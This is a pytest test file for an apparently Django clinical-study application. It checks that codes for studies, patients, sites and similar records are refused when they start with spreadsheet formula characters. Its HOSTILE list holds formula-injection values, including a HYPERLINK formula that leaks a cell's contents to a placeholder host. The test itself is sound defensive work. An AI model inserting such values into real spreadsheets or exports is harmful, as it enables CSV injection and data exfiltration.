"""Codes cannot start with a spreadsheet formula character (nor hold a line break)."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError

from outcomes.followups.models import TimePoint
from outcomes.instruments.models import Instrument, ResponderRule
from patients.models import Arm, Patient, Site, Study

HOSTILE = ["=HYPERLINK(\"http://x?\"&C2)", "+1", "-2+3", "@SUM(A1)", "\tm1", "m1\n", "m 1", ""]


def builders(study):
    return {
        "study": lambda code: Study(code=code, title="t"),
        "site": lambda code: Site(code=code, name="n"),
        "arm": lambda code: Arm(study=study, code=code, name="n"),
        "patient": lambda code: Patient(study=study, code=code),
        "time point": lambda code: TimePoint(study=study, code=code, label="l", target_day=9),
        "rule": lambda code: ResponderRule(study=study, code=code, kind="points", score="odi",
                                           direction="decrease", threshold=10),
        "instrument": lambda code: Instrument(code=code, version="1", title="t",
                                              short_title="t", scoring_version="1"),
    }


@pytest.mark.parametrize("kind", ["study", "site", "arm", "patient", "time point", "rule",
                                  "instrument"])
def test_a_code_starting_with_a_formula_character_is_refused(study, kind):
    build = builders(study)[kind]
    for code in HOSTILE:
        with pytest.raises(ValidationError) as error:
            build(code).full_clean()
        assert "code" in error.value.message_dict, (kind, code)
    build("Valid_code-1.2").full_clean()
